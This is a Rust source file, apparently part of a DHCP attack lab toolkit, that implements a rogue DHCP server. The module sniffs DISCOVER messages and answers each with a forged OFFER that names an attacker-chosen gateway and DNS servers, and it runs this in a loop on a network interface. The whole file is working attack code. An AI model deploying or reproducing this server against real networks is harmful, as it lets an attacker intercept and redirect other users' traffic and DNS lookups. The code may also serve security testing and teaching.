//! Rogue DHCP server
//!
//! Sniffs DISCOVER messages and answers each with an OFFER carrying an
//! attacker-chosen gateway and DNS servers. No lease state is kept: every
//! requester is offered the same address.

use super::attack::server_hardware_address;
use super::config::RogueServerConfig;
use super::frame::{discover_filter, offer_frame, DhcpFrame};
use super::packet::{DhcpOption, DhcpPacket};
use async_trait::async_trait;
use dhcplab_core::{Attack, AttackContext, AttackKind, Result};
use tracing::{debug, info};

#[derive(Debug, Clone)]
pub struct RogueServerAttack {
    config: RogueServerConfig,
}

impl RogueServerAttack {
    pub fn new(config: RogueServerConfig) -> Self {
        Self { config }
    }

    pub fn config(&self) -> &RogueServerConfig {
        &self.config
    }

    /// OFFER answering `discover`
    pub fn offer_for(&self, discover: &DhcpPacket) -> DhcpPacket {
        let c = &self.config;
        DhcpPacket::offer(discover.xid, discover.chaddr, c.offered_ip, c.server_ip)
            .with_option(DhcpOption::LeaseTime(c.lease_time))
            .with_option(DhcpOption::RenewalTime(c.lease_time / 2))
            .with_option(DhcpOption::RebindingTime(c.lease_time / 8 * 7))
            .with_option(DhcpOption::SubnetMask(c.subnet_mask))
            .with_option(DhcpOption::Router(vec![c.gateway]))
            .with_option(DhcpOption::DnsServer(c.dns.clone()))
    }
}

#[async_trait]
impl Attack for RogueServerAttack {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let server_mac = server_hardware_address(&ctx).await;
        let filter = discover_filter();
        info!(
            interface = %ctx.interface,
            server_ip = %self.config.server_ip,
            gateway = %self.config.gateway,
            offered_ip = %self.config.offered_ip,
            "Rogue DHCP server listening"
        );

        while ctx.is_running() {
            let received = ctx
                .transport
                .receive_matching(&ctx.interface, &filter, self.config.poll_timeout)
                .await;

            let raw = match received {
                Ok(Some(raw)) => raw,
                Ok(None) => continue,
                Err(e) => {
                    ctx.record_error(&format!("Receive failed: {}", e));
                    ctx.pause(self.config.error_backoff).await;
                    continue;
                }
            };

            let Some(request) = DhcpFrame::parse(&raw) else {
                debug!("Dropping unparsable frame");
                continue;
            };
            if !ctx.is_running() {
                break;
            }

            let offer = self.offer_for(&request.packet);
            let what = format!("OFFER of {} to {}", offer.yiaddr, offer.chaddr);
            match offer_frame(server_mac, self.config.server_ip, &offer) {
                Ok(frame) => {
                    ctx.send_frame(&frame, server_mac, &what).await;
                }
                Err(e) => ctx.record_error(&format!("Failed to build OFFER: {}", e)),
            }
        }

        Ok(())
    }

    fn kind(&self) -> AttackKind {
        AttackKind::RogueServer
    }

    fn name(&self) -> &str {
        "DHCP Rogue Server"
    }
}
